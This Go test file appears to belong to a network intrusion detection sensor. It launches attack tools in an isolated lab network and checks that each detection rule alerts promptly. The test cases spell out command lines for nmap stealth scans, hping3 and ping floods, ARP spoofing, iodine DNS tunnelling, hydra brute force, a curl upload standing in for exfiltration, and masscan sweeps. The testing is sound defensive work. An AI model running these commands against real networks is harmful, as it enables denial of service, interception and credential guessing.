package lab

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ruleids/ruleids/agent/api"
)

// An attack is a tool that is run against the home host, and the alert that it must give.
type attack struct {
	name  string
	tools []string
	rule  string
	// key is what the alert must be about; value names the aggregate that must be at the threshold exactly: the
	// rule fired on the first packet that it could.
	key   map[string]any
	value string
	// flood says that the tool is to end by itself, and every packet of it to be accounted for.
	flood bool
	// launch starts the tool.
	launch func(l *lan) *process
}

// from is the key of rules by source address.
func from(address string) map[string]any { return map[string]any{"ip.src": address} }

// remotely is an attack that one command on the remote host makes.
func remotely(command string) func(*lan) *process {
	words := strings.Fields(command)
	return func(l *lan) *process { return l.remote.start(words[0], words[1:]...) }
}

var attacks = []attack{
	{
		name: "nmap -sS", tools: []string{"nmap"}, rule: "port_scan", key: from(remoteAddress), value: "ports",
		launch: remotely("nmap -n -Pn -sS --max-retries 0 -p 1-200 " + homeAddress),
	}, {
		name: "nmap -sU", tools: []string{"nmap"}, rule: "suspicious_port", key: map[string]any{"ip.src": remoteAddress, "ip.dst": homeAddress},
		launch: remotely("nmap -n -Pn -sU -F --max-retries 0 " + homeAddress),
	}, {
		name: "nmap -sU fast", tools: []string{"nmap"}, rule: "udp_flood", key: map[string]any{"ip.src": remoteAddress, "ip.dst": homeAddress}, value: "packets",
		launch: remotely("nmap -n -Pn -sU --min-rate 1000 --max-retries 0 -p 1-5000 " + homeAddress),
	}, {
		name: "nmap -sX", tools: []string{"nmap"}, rule: "stealth_scan", key: from(remoteAddress), value: "probes",
		launch: remotely("nmap -n -Pn -sX --max-retries 0 -p 1-50 " + homeAddress),
	}, {
		name: "nmap -sN", tools: []string{"nmap"}, rule: "stealth_scan", key: from(remoteAddress), value: "probes",
		launch: remotely("nmap -n -Pn -sN --max-retries 0 -p 1-50 " + homeAddress),
	}, {
		name: "hping3 --flood", tools: []string{"hping3"}, rule: "syn_flood", key: from(remoteAddress), value: "syns", flood: true,
		launch: remotely("timeout -s INT 1 hping3 -q -S --flood -p 80 " + homeAddress),
	}, {
		name: "hping3 --flood --rand-source", tools: []string{"hping3"}, rule: "syn_flood_global", value: "syns", flood: true,
		launch: remotely("timeout -s INT 1 hping3 -q -S --flood --rand-source -p 80 " + homeAddress),
	}, {
		name: "ping -f", tools: []string{"ping"}, rule: "icmp_flood", key: from(remoteAddress), value: "requests",
		launch: remotely("ping -q -f -c 500 " + homeAddress),
	}, {
		name: "arpspoof", tools: []string{"arpspoof"}, rule: "arp_spoof", key: map[string]any{"arp.src.proto_ipv4": "10.0.0.1"}, value: "mac_changes",
		launch: spoof,
	}, {
		name: "iodine", tools: []string{"iodine", "iodined"}, rule: "dns_tunnel_volume", value: "names",
		key:    map[string]any{"ip.src": homeAddress, "registered_domain(dns.qry.name)": "example.org"},
		launch: tunnel,
	}, {
		name: "hydra", tools: []string{"hydra"}, rule: "brute_force", key: from(remoteAddress), value: "attempts",
		launch: func(l *lan) *process {
			l.home.serveFTP()
			words := filepath.Join(l.home.t.TempDir(), "words")
			var text strings.Builder
			for n := range 60 {
				fmt.Fprintf(&text, "word%d\n", n)
			}
			if err := os.WriteFile(words, []byte(text.String()), 0o644); err != nil {
				l.home.t.Fatal(err)
			}
			return l.remote.start("hydra", "-q", "-I", "-t", "8", "-l", "admin", "-P", words, "ftp://"+homeAddress)
		},
	}, {
		name: "curl -T", tools: []string{"curl"}, rule: "data_exfil", key: from(homeAddress),
		launch: func(l *lan) *process {
			l.remote.serveWeb()
			upload := filepath.Join(l.home.t.TempDir(), "upload.bin")
			if err := os.WriteFile(upload, make([]byte, 6_000_000), 0o644); err != nil {
				l.home.t.Fatal(err)
			}
			return l.home.start("curl", "-s", "-S", "-T", upload, "http://"+remoteAddress+"/upload.bin")
		},
	}, {
		name: "masscan", tools: []string{"masscan"}, rule: "host_sweep", key: map[string]any{"ip.src": remoteAddress, "tcp.dstport": 80.0}, value: "hosts",
		launch: func(l *lan) *process {
			mac := strings.TrimSpace(l.home.run("cat", "/sys/class/net/eth0/address"))
			return l.remote.start("masscan", "10.0.0.0/25", "-p80", "--rate", "200", "--wait", "0", "-e", "eth0",
				"--adapter-ip", remoteAddress, "--router-mac", mac)
		},
	},
}

// spoof has an intruder say that it is the gateway. Home, gateway and intruder are on one bridge, and the daemon on
// the home host's port of it.
func spoof(l *lan) *process {
	t := l.home.t
	// The remote host becomes the switch between the home host and two others.
	l.remote.ip("link add lan type bridge")
	l.remote.ip("address flush dev eth0")
	l.remote.ip("link set eth0 master lan")
	l.remote.ip("link set lan up")
	others := map[string]*host{}
	for name, address := range map[string]string{"gateway": "10.0.0.1", "intruder": "10.0.0.66"} {
		h := newHost(t, name)
		ip(t, fmt.Sprintf("link add %s netns %s type veth peer name eth0 netns %s", name, l.remote.name, h.name))
		l.remote.ip("link set " + name + " master lan")
		l.remote.ip("link set " + name + " up")
		h.up("eth0", address)
		others[name] = h
	}
	others["gateway"].run("ping", "-q", "-c", "1", homeAddress) // the gateway says who it is
	return others["intruder"].start("arpspoof", "-i", "eth0", "-t", homeAddress, "10.0.0.1")
}

// tunnel has the home host carry pings in DNS names to the remote one.
func tunnel(l *lan) *process {
	const inside = "10.53.0.1"
	l.remote.serve("Listening to dns for domain", "iodined", "-f", "-c", "-P", "lab-only", "-n", remoteAddress, "-l", remoteAddress, inside+"/24", "t.example.org")
	client := l.home.serve("Connection setup complete", "iodine", "-f", "-r", "-m", "500", "-P", "lab-only", remoteAddress, "t.example.org")
	l.home.run("ping", "-q", "-c", "60", "-i", "0.05", "-s", "200", inside)
	return client
}

// TestAttacks runs tools against the home host. Each must give its alert, on the first packet that suffices, and
// the alert be in the file within a second of that packet.
func TestAttacks(t *testing.T) {
	testAttacks(t, settings(stdlibAlone))
}

// TestAttacksTwoWorkers does the same where two rings share the packets.
func TestAttacksTwoWorkers(t *testing.T) {
	testAttacks(t, strings.Replace(settings(stdlibAlone), "capture {\n", "capture {\n  workers    = 2\n", 1))
}

func testAttacks(t *testing.T, hcl string) {
	need(t, "ip", "ethtool")
	var all []time.Duration
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			need(t, a.tools...)
			l := newLAN(t)
			machine := watchLateness(t)
			s := startSensor(l.home, hcl, nil)
			p := a.launch(l)
			defer func() {
				if t.Failed() {
					t.Logf("the tool says %q; %d packets were on the link; the daemon has %+v and %+v", p.out.from(0),
						l.home.counter("rx_packets")+l.home.counter("tx_packets"), s.status().Packets, s.status().Alerts)
				}
			}()
			got := s.eve.alert(0, a.rule, func(l line) bool {
				for name, value := range a.key {
					if l.RuleIDs.Key[name] != value {
						return false
					}
				}
				return true
			})
			if a.value != "" && got.RuleIDs.Values[a.value] != got.RuleIDs.Threshold {
				t.Errorf("%s is %v, want the threshold: %s", a.value, got.RuleIDs.Values[a.value], got.text)
			}
			if a.flood {
				<-p.ended
				s.accounted()
			}
			p.kill()
			s.stop()
			written := len(readEVE(t, filepath.Join(s.dir, "eve.json")))
			s.eve.await(patience, written-1, func(line) bool { return true })
			var times []time.Duration
			for _, l := range s.eve.from(0) {
				times = append(times, l.took(t))
			}
			if len(times) != written {
				t.Errorf("%d alerts were written, %d are in the file", len(times), written)
			}
			median, most := spread(times)
			t.Logf("%d alerts, of %s first after %v; the median is %v, the most %v", len(times), a.rule, got.took(t), median, most)
			if bound := machine.allow(time.Second, 1); most > bound {
				t.Errorf("an alert took %v, want at most %v:\n%s", most, bound, s.eve.texts(0, 20))
			}
			all = append(all, times...)
		})
	}
	median, most := spread(all)
	t.Logf("from packet to alert: %v in the median of %d, %v at most", median, len(all), most)
}

// accounted waits until the daemon accounts for every packet that was on its interface, as read or as lost.
func (s *sensor) accounted() {
	s.host.t.Helper()
	onLink := 0
	st := s.statusWhen("every packet on the link is accounted for", func(st *api.Status) bool {
		onLink = s.host.counter("rx_packets") + s.host.counter("tx_packets")
		return int(st.Capture.Received+st.Capture.Dropped) == onLink && st.Packets.Seen == st.Capture.Received
	})
	s.host.t.Logf("%d packets on the link, %d of them lost", onLink, st.Capture.Dropped)
}

// checkFile fails the test unless the EVE file of a daemon that has ended has n alerts.
func (s *sensor) checkFile(n int) {
	s.host.t.Helper()
	if got := len(readEVE(s.host.t, filepath.Join(s.dir, "eve.json"))); got != n {
		s.host.t.Errorf("%d alerts are in the file, want %d", got, n)
	}
}
